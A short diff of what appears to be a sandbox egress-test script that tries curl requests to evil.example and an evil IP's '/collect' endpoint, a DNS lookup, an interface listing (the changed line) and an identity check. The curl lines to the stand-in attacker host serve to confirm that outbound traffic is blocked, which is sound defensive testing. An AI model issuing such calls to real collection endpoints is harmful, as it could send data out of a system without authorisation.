@@ -14,5 +14,5 @@ try blocked   curl -sS -m 10 -w ' [HTTP %{http_code}]' "http://evil.example/coll
 try blocked-tls curl -sS -m 10 -o /dev/null -w '[HTTP %{http_code}]' https://evil.example/
 try raw-socket  curl -sS -m 5 --noproxy '*' -w ' [HTTP %{http_code}]' "http://${evil_ip}/collect"
 try dns       getent hosts evil.example
-try interfaces sh -c 'ls /sys/class/net | tr "\n" " "'
+try interfaces sh -c 'tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " " | tr "\n" " "'
 try whoami    id -un
